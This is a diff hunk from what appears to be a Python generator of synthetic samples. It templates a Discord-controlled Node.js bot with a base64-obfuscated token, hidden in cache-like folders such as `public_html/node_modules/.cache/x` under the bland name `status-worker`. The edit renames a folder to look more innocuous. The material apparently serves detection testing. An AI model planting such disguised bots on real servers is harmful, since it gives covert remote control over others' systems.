@@ -329,7 +329,7 @@ client.on('messageCreate', (m) => {
 
 client.login(Buffer.from('{{tok}}', 'base64').toString());
 """, owner=r.randint(10 ** 17, 10 ** 18), ch=r.randint(10 ** 17, 10 ** 18), tok=rword(r, 96, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"))
-    d = r.choice(("nodevenv/.bot", ".npm/.x", "apps/.status", "public_html/node_modules/.cache/x"))
+    d = r.choice(("nodevenv/.status", ".npm/.x", "apps/.status", "public_html/node_modules/.cache/x"))
     pkg = '{\n  "name": "status-worker",\n  "version": "1.0.0",\n  "main": "index.js",\n  "dependencies": {\n    "discord.js": "^14.14.1"\n  }\n}\n'
     return [(d + "/index.js", body, "js"), (d + "/package.json", pkg, "json")], "script"
 
